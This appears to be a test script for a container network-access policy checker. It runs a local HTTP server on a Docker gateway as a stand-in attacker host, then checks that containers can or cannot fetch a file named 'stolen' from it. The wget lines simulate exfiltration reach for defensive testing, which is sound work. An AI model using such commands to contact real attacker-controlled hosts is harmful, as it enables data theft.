#!/bin/sh
# rules: network-access
# A server on the gateway's address stands for one of the attacker's: what it is asked for is what
# was stolen.
docker network create way-out
server=$(docker network inspect --format '{{(index .IPAM.Config 0).Gateway}}' way-out)
echo thanks >stolen
busybox httpd -f -p "$server:18483" &
trap "kill $!" EXIT
until busybox wget -q -O /dev/null "http://$server:18483/stolen"; do :; done

# expect: network-access error `way-out`
docker run --rm --read-only --cap-drop ALL --user 1000:1000 --network way-out probe:1 \
  sh -c 'echo REACHED; wget -q -O - "http://$1:18483/stolen" | grep -q thanks' sh "$server"

# The host's own network.
# expect: network-access error `host`
docker run --rm --read-only --cap-drop ALL --user 1000:1000 --net=host probe:1 \
  sh -c 'echo REACHED; wget -q -O - "http://$1:18483/stolen" | grep -q thanks' sh "$server"

# ok: network-access
docker run --rm --network none probe:1 \
  sh -c 'echo REACHED; wget -q -O - "http://$1:18483/stolen" | grep -q thanks' sh "$server"
